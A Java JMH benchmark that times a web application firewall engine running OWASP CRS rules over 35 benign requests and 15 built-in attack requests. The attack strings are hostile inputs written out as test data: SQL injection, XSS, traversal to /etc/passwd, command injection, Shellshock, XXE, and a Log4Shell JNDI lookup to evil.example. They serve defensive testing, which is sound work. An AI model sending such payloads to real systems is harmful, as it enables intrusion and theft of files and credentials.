package dev.rampart.perf.detect;

import dev.rampart.engine.detect.seclang.SecLangLoader;
import dev.rampart.engine.detect.seclang.SecLangRules;
import dev.rampart.engine.detect.seclang.SecLangTx;
import dev.rampart.engine.detect.seclang.variable.HttpVariables;
import dev.rampart.engine.detect.seclang.variable.VarEntry;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/**
 * OWASP CRS v4 at paranoia level 4 (crs-setup.conf.example, tools/crs/regression-setup.conf, the
 * rules of {@code -Drampart.shared}/rulesets/crs) over {@value #REQUESTS} requests built here:
 * benign GETs and form / JSON posts with cookies, and the usual attacks (SQLi, XSS, traversal,
 * command and PHP injection, scanners), each with a small HTML response; phases 1-5 per request,
 * straight on {@link HttpVariables} and {@link SecLangTx} (no capture, no HTTP parser). Result:
 * ns per request. {@code prefilter=false} compiles the rules with
 * {@code -Drampart.seclang.noPrefilter} (every @rx on java.util.regex alone), for the comparison.
 * Without the CRS files the setup fails with a message saying so (the benchmark is skipped).
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Warmup(iterations = 3, time = 3)
@Measurement(iterations = 5, time = 3)
@Fork(value = 1, jvmArgsAppend = {"-Xmx2g", "-Xss4m"})
public class SecLangCrsBenchmark {
    static final int REQUESTS = 50;

    /** One request: method, target, headers (name, value pairs), body or null. */
    record Request(String method, String uri, String[] headers, String body) {
    }

    @Param({"true", "false"})
    public boolean prefilter;

    private SecLangRules rules;
    private final List<Request> requests = new ArrayList<>();

    @Setup
    public void setup() throws Exception {
        Path crs = Path.of(System.getProperty("rampart.shared", "../shared"), "rulesets/crs");
        Path setup = Path.of("tools/crs/regression-setup.conf");
        if (!Files.isDirectory(crs.resolve("rules")) || !Files.isRegularFile(setup)) {
            throw new IllegalStateException("skipped: CRS rules not found under " + crs.toAbsolutePath()
                    + " (or " + setup.toAbsolutePath() + " missing); set -Drampart.shared");
        }
        if (!prefilter) {
            System.setProperty("rampart.seclang.noPrefilter", "true");
        }
        rules = SecLangLoader.load(List.of(crs.resolve("crs-setup.conf.example"), setup, crs.resolve("rules")));
        System.clearProperty("rampart.seclang.noPrefilter");
        build();
        if (requests.size() != REQUESTS) {
            throw new IllegalStateException(requests.size() + " requests, not " + REQUESTS);
        }
    }

    private static final String UA = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";
    private static final String ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";

    private void get(String uri, String... extra) {
        requests.add(new Request("GET", uri, headers(extra), null));
    }

    private void post(String uri, String contentType, String body, String... extra) {
        String[] more = new String[extra.length + 4];
        more[0] = "Content-Type";
        more[1] = contentType;
        more[2] = "Content-Length";
        more[3] = Integer.toString(body.length());
        System.arraycopy(extra, 0, more, 4, extra.length);
        requests.add(new Request("POST", uri, headers(more), body));
    }

    private static String[] headers(String... extra) {
        String[] base = {"Host", "shop.example.com", "User-Agent", UA, "Accept", ACCEPT, "Accept-Language", "en-US,en;q=0.5",
                "Accept-Encoding", "gzip, deflate, br", "Connection", "keep-alive"};
        String[] all = new String[base.length + extra.length];
        System.arraycopy(base, 0, all, 0, base.length);
        System.arraycopy(extra, 0, all, base.length, extra.length);
        return all;
    }

    /** 35 benign requests, 15 attacks: what a busy site sees, scaled down. */
    private void build() {
        String cookie = "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; cart=3";
        get("/");
        get("/index.html");
        get("/static/css/site.min.css", "Referer", "https://shop.example.com/");
        get("/static/js/app.4f2a9c.js", "Referer", "https://shop.example.com/");
        get("/images/products/1234-large.jpg", "Cookie", cookie);
        get("/favicon.ico");
        get("/search?q=blue+running+shoes&page=2&sort=price_asc", "Cookie", cookie);
        get("/search?q=caf%C3%A9+au+lait&lang=fr", "Cookie", cookie);
        get("/products/1234?color=red&size=42", "Cookie", cookie);
        get("/products/list?category=outdoor&min=10&max=250&brand=acme&brand=globex", "Cookie", cookie);
        get("/api/v1/orders?status=shipped&limit=20&offset=40", "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl");
        get("/api/v1/users/42/profile", "Cookie", cookie, "X-Requested-With", "XMLHttpRequest");
        get("/account/orders?from=2024-01-01&to=2024-03-31", "Cookie", cookie);
        get("/blog/2024/03/how-to-choose-a-tent", "Referer", "https://www.google.com/");
        get("/help/faq#shipping");
        get("/robots.txt", "User-Agent", "Googlebot/2.1 (+http://www.google.com/bot.html)");
        get("/sitemap.xml");
        get("/redirect?url=https%3A%2F%2Fshop.example.com%2Fcart&ref=mail");
        get("/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024");
        get("/download?file=manual-v2.pdf", "Cookie", cookie);
        get("/cart", "Cookie", cookie + "; last_seen=2024-03-01T10:00:00Z");
        get("/checkout/step2?shipping=express", "Cookie", cookie);
        get("/api/v1/stock?sku=ABC-123-XL&sku=ABC-124-L&warehouse=eu-west-1");
        get("/news?title=The+%22best%22+deals+of+the+year%21&id=99");
        get("/profile/edit?name=O%27Brien&city=Dublin", "Cookie", cookie);
        post("/login", "application/x-www-form-urlencoded", "username=alice&password=correct+horse+battery&remember=1",
                "Cookie", cookie);
        post("/search", "application/x-www-form-urlencoded", "q=garden+chairs&filters%5Bcolor%5D=green&filters%5Bprice%5D=0-100");
        post("/api/v1/cart", "application/json", "{\"sku\":\"ABC-123-XL\",\"qty\":2,\"gift\":false,\"note\":\"Happy birthday!\"}",
                "Cookie", cookie);
        post("/api/v1/reviews", "application/json",
                "{\"product\":1234,\"rating\":5,\"title\":\"Great tent\",\"text\":\"Kept us dry for a week in the rain. "
                        + "Easy to set up, packs small. Would buy again.\",\"tags\":[\"camping\",\"family\"]}",
                "Cookie", cookie);
        post("/contact", "application/x-www-form-urlencoded",
                "name=Jane+Doe&email=jane%40example.org&subject=Order+%2312345&message=Hello%2C+my+order+has+not+arrived+yet.+"
                        + "Could+you+check+the+tracking+number%3F+Thanks%2C+Jane");
        post("/newsletter", "application/x-www-form-urlencoded", "email=bob%40example.com&consent=yes");
        post("/api/v1/events", "application/json",
                "[{\"type\":\"view\",\"page\":\"/products/1234\",\"ts\":1710000000},{\"type\":\"click\",\"target\":\"add-to-cart\"}]");
        post("/account/address", "application/x-www-form-urlencoded",
                "street=12+Main+St.&city=Springfield&zip=12345&country=US&phone=%2B1-555-0100", "Cookie", cookie);
        post("/graphql", "application/json",
                "{\"query\":\"query { product(id: 1234) { name price reviews(first: 5) { rating text } } }\"}");
        post("/upload/avatar", "application/x-www-form-urlencoded", "filename=me.png&size=20480&type=image%2Fpng");
        // attacks
        get("/products?id=1%27+UNION+SELECT+username%2C+password+FROM+users--+-");
        get("/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E");
        get("/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd");
        get("/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd");
        get("/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex");
        get("/item?id=1+AND+1%3D1+AND+SLEEP%285%29");
        get("/comment?text=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E");
        get("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
        get("/.env");
        get("/cgi-bin/test.cgi", "User-Agent", "() { :; }; /bin/bash -c 'id'");
        post("/login", "application/x-www-form-urlencoded", "username=admin%27+OR+%271%27%3D%271&password=x");
        post("/api/v1/eval", "application/json", "{\"code\":\"system('ls -la /var/www');\"}");
        post("/xmlrpc.php", "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
        get("/api?callback=%7B%7B7*7%7D%7D&tpl=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D");
        get("/wp-admin/admin-ajax.php?action=revslider_show_image&img=..%2Fwp-config.php");
    }

    private static final List<VarEntry> RESPONSE_HEADERS = List.of(new VarEntry("Content-Type", "text/html; charset=utf-8"),
            new VarEntry("Content-Length", "120"), new VarEntry("Cache-Control", "no-cache"));
    private static final String RESPONSE_BODY = "<!doctype html><html><head><title>Shop</title></head>"
            + "<body><h1>Welcome</h1><p>Items in your cart: 3</p></body></html>";

    /** Evaluates every request (phases 1-5); returns the number of alerts. */
    @Benchmark
    @OperationsPerInvocation(REQUESTS)
    public int evaluate() {
        int alerts = 0;
        int port = 40000;
        for (Request r : requests) {
            HttpVariables vars = new HttpVariables();
            vars.connection("192.0.2.10", port++, "198.51.100.5", 443);
            List<VarEntry> hs = new ArrayList<>(r.headers().length / 2);
            for (int i = 0; i < r.headers().length; i += 2) hs.add(new VarEntry(r.headers()[i], r.headers()[i + 1]));
            vars.request(r.method(), r.uri(), "HTTP/1.1", hs, r.body());
            SecLangTx tx = new SecLangTx(rules, SecLangTx.Variables.of(vars));
            int[] n = {0};
            tx.runPhase(1, m -> n[0]++);
            vars.setPathDecoded(true);
            tx.runPhase(2, m -> n[0]++);
            vars.response("HTTP/1.1", 200, RESPONSE_HEADERS, RESPONSE_BODY);
            tx.runPhase(3, m -> n[0]++);
            tx.runPhase(4, m -> n[0]++);
            tx.runPhase(5, m -> n[0]++);
            alerts += n[0];
        }
        return alerts;
    }
}
